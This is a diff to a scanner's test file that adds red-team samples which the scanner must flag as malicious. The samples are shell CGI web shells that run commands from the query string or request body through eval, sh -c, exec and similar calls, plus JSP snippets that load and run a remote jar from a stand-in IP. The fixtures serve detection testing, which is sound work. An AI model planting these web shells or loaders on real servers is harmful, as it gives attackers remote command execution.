@@ -45,6 +45,23 @@ const BENIGN: [string, string][] = [
   ["fp34_download.asp", "<%\n' Serves the Windows client installer; checks it is still a valid executable first\nSet fs = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.OpenTextFile(Server.MapPath(\"/files/client-setup.exe\"), 1)\nhead = f.Read(4)\nf.Close\nIf head <> Chr(77) & Chr(90) & Chr(144) & Chr(0) Then\n  Set sh = CreateObject(\"WScript.Shell\")\n  sh.LogEvent 1, \"client-setup.exe is corrupt\"\n  Response.Write \"Download unavailable\"\n  Response.End\nEnd If\nResponse.ContentType = \"application/octet-stream\"\nResponse.AddHeader \"Content-Disposition\", \"attachment; filename=client-setup.exe\"\nSet st = CreateObject(\"ADODB.Stream\")\nst.Type = 1 : st.Open : st.LoadFromFile Server.MapPath(\"/files/client-setup.exe\")\nResponse.BinaryWrite st.Read\n%>\n"],
 ];
 const CAUGHT: [string, string][] = [
+  ["s02_cat_body.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\n[ \"$REQUEST_METHOD\" = POST ] || exit\nC=$(cat)\neval \"$C\"\n"],
+  ["s03_head_c.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=$(head -c \"$CONTENT_LENGTH\")\nsh -c \"$C\"\n"],
+  ["s06_source_stdin.cgi", "#!/bin/bash\necho -e \"Content-type: text/plain\\n\"\nC=\"${QUERY_STRING#c=}\"\nsource /dev/stdin <<< \"$C\"\n"],
+  ["s07_xargs.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\necho \"$C\" | xargs -0 sh -c\n"],
+  ["s08_exec_prefix.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\ntimeout 5 $C\n"],
+  ["s09_herestring.cgi", "#!/bin/bash\necho -e \"Content-type: text/plain\\n\"\nC=\"${QUERY_STRING#c=}\"\nbash <<< \"$C\"\n"],
+  ["s11b_cat_herestring_pipe.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\ncat <<< \"$C\" | sh\n"],
+  ["s12_sh_ec.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\nsh -e -c \"$C\"\n"],
+  ["s18_bash_lc.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\nbash -lc \"$C\"\n"],
+  ["s21_exec.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\nexec $C\n"],
+  ["s22_dd_body.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=$(dd bs=1 count=\"$CONTENT_LENGTH\" 2>/dev/null)\neval \"$C\"\n"],
+  ["s23_env_cmd.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\nenv -i PATH=/bin:/usr/bin $C\n"],
+  ["S40B j01_url_in_var.jsp", "<%@ page import=\"java.util.*, java.net.*\" %>\n<%\n  URL u = new URL(\"http://203.0.113.5/p.jar\");\n  Class f = Class.forName(\"javax.script.ScriptEngine\" + \"Factory\");\n  Iterator it = ServiceLoader.load(f, new URLClassLoader(new URL[]{u})).iterator();\n  while (it.hasNext()) it.next();\n%>\n"],
+  ["S40B j03_newinstance_url.jsp", "<%@ page import=\"java.util.*, java.net.*\" %>\n<%\n  Class f = Class.forName(\"javax.script.ScriptEngine\" + \"Factory\");\n  Iterator it = ServiceLoader.load(f, URLClassLoader.newInstance(new URL[]{new URL(\"http://203.0.113.5/p.jar\")})).iterator();\n  while (it.hasNext()) it.next();\n%>\n"],
+  ["S40B j04_uri_tourl.jsp", "<%@ page import=\"java.util.*, java.net.*\" %>\n<%\n  Class f = Class.forName(\"javax.script.ScriptEngine\" + \"Factory\");\n  Iterator it = ServiceLoader.load(f, new URLClassLoader(new URL[]{URI.create(\"http://203.0.113.5/p.jar\").toURL()})).iterator();\n  while (it.hasNext()) it.next();\n%>\n"],
+  ["S40B j06_for_each.jsp", "<%@ page import=\"java.util.*, java.net.*\" %>\n<%\n  Class f = Class.forName(\"javax.script.ScriptEngine\" + \"Factory\");\n  for (Object o : ServiceLoader.load(f, new URLClassLoader(new URL[]{new URL(\"http://203.0.113.5/p.jar\")}))) { o.toString(); }\n%>\n"],
+  ["S40B j10_array_var.jsp", "<%@ page import=\"java.util.*, java.net.*\" %>\n<%\n  URL[] us = { new URL(\"http://203.0.113.5/p.jar\") };\n  Class f = Class.forName(\"javax.script.ScriptEngine\" + \"Factory\");\n  Iterator it = ServiceLoader.load(f, new URLClassLoader(us)).iterator();\n  while (it.hasNext()) it.next();\n%>\n"],
   ["S40B s01_arith_shift_heredoc.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\necho $((1<<EOF))\neval \"$C\"\n"],
   ["S40B s02_partly_quoted_tag.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\ncat <<E\"OF\"\nusage\nEOF\neval \"$C\"\n"],
   ["S40B s03_ansi_c_quote.cgi", "#!/bin/bash\necho \"Content-type: text/plain\"\necho\nC=\"${QUERY_STRING#c=}\"\nX=$'\\''; eval \"$C\" #'\n"],
@@ -76,5 +93,5 @@ describe('scan: red team S40', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every variant', () => assert.equal(CAUGHT.length, 15));
+  it('ran every variant', () => assert.equal(CAUGHT.length, 32));
 });
